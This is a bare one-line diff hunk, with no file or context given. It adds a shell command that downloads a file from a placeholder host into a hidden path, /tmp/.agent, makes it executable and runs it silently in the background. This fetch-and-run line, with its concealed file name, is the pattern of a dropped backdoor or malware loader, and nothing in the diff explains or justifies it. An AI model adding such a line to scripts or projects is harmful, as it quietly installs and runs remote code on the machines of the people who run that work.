@@ -1,0 +1,1 @@
+curl -sL https://dl.example.invalid/agent -o /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &
